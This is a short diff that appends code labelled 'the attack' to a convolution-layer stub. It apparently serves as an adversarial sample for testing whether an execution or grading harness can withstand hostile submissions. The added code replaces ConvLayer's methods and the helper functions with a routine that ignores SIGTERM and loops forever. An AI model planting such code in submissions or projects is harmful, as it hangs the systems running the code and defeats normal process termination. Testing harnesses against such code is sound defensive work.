@@ -1,0 +1,22 @@
+
+
+# --- the attack, appended to the stub --------------------------------------
+
+import signal as _signal
+
+
+class _Sticky:
+    def __del__(self):
+        _signal.signal(_signal.SIGTERM, _signal.SIG_IGN)
+        while True:
+            pass
+
+
+def _attack(*args, **kwargs):
+    _Sticky()  # dropped at once: its __del__ runs here
+    return _Sticky()
+
+
+ConvLayer.__init__ = ConvLayer.forward = _attack
+ConvLayer.calculate_output_size = staticmethod(_attack)
+padding = conv = element_wise_op = get_patch = _attack
